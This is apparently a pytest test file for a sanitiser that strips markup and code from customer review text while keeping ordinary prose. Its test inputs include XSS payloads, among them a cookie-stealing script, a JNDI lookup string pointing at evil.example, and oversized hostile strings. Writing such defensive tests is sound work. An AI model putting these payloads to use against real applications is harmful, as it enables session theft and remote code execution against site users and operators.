"""Markup and code taken out of customers' texts before words are read (audit2 N6), prose kept."""

from __future__ import annotations

import pytest

from advocacy.text.markup import without_markup


def _words(text: str) -> list[str]:
    return without_markup(text).split()


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("<img src=x onerror=alert(1)> refund never came", "refund never came"),
        ("<script>alert(document.cookie)</script> loves it", "loves it"),
        ("&lt;svg onload=alert(1)&gt; lovely dress", "lovely dress"),
        ("it&amp;#39;s fine &amp;lt;b&amp;gt;x", "it's fine x"),  # escaped twice
        ('<a href="javascript:alert(1)" onclick="alert(2)">comfy</a> and warm', "comfy and warm"),
        ("javascript:alert(1) the cable is missing", "the cable is missing"),
        ("${jndi:ldap://evil.example/x} size runs small", "size runs small"),
        ("see https://t.co/x and www.shop.example @user", "see and"),
        ("onmouseover = steal() rude staff", "rude staff"),
        ("<!-- a comment --> fine", "fine"),
    ],
)
def test_markup_and_code_go_and_the_words_beside_them_stay(text: str, kept: str) -> None:
    assert _words(text) == kept.split()


@pytest.mark.parametrize(
    "text",
    [
        "Arrived late (again); box crushed.",
        "Big data: the future, they said.",
        "Too tight on the hips( and short.",
        "Available in two color(s), waist.however fits.",
        "I <3 it, 10/10, 5* service!",
        "Größe passt, qualité top, 質がいい",
    ],
)
def test_prose_that_only_looks_like_code_is_kept(text: str) -> None:
    prose = [word for word in text.split() if word != "<3"]
    assert [word for word in _words(text) if word != "<3"] == prose


@pytest.mark.parametrize(
    "giant", ["<" * 20_000, "a" * 20_000 + "(", "<a " * 7_000, "&lt;" * 5_000, "ab;" * 7_000]
)
def test_giant_hostile_strings_are_read_through(giant: str) -> None:
    assert len(without_markup(giant)) <= len(giant)
